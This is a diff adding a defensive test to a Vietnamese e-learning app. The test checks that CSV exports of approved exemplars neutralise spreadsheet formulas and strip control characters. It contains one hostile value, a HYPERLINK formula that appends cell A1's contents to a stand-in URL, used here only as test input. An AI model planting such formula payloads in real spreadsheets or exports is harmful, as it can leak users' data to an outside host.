@@ -204,6 +204,23 @@ def test_exemplars_are_nominated_approved_above_and_published(cell):
     rows = list(csv.reader(io.StringIO(exported)))
     assert rows[1][2] == "Trần Thị Ân" and rows[1][0] == str(YEAR)
 
+    # A collective named like a spreadsheet formula comes out as text.
+    hostile = '=HYPERLINK("http://x"&A1,"Xem")'
+    btcb.post(f"/review/exemplars?unit=C&year={YEAR}", data={
+        "csrf_token": csrf_token(btcb, f"/review/exemplars?unit=C&year={YEAR}"),
+        "kind": "collective", "name": hostile, "description": "Tổ tự quản\x0b làm đường"})
+    with cell.app_context():
+        from elearn.models import Exemplar
+
+        second = db.session.scalar(select(Exemplar.id).where(Exemplar.name == hostile))
+    btxa.post(f"/review/exemplars/{second}/decide", data={
+        "csrf_token": csrf_token(btxa, "/"), "decision": "approved"})
+    rows = list(csv.reader(io.StringIO(cell.test_client().get(
+        "/public/units/X/exemplars.csv").get_data(as_text=True))))
+    cells = [value for row in rows for value in row]
+    assert "'" + hostile in cells and hostile not in cells
+    assert not any("\x0b" in value for value in cells)
+
 
 def test_admins_set_committees_on_the_web_and_by_csv(cell):
     admin = client_for(cell, "quantri")
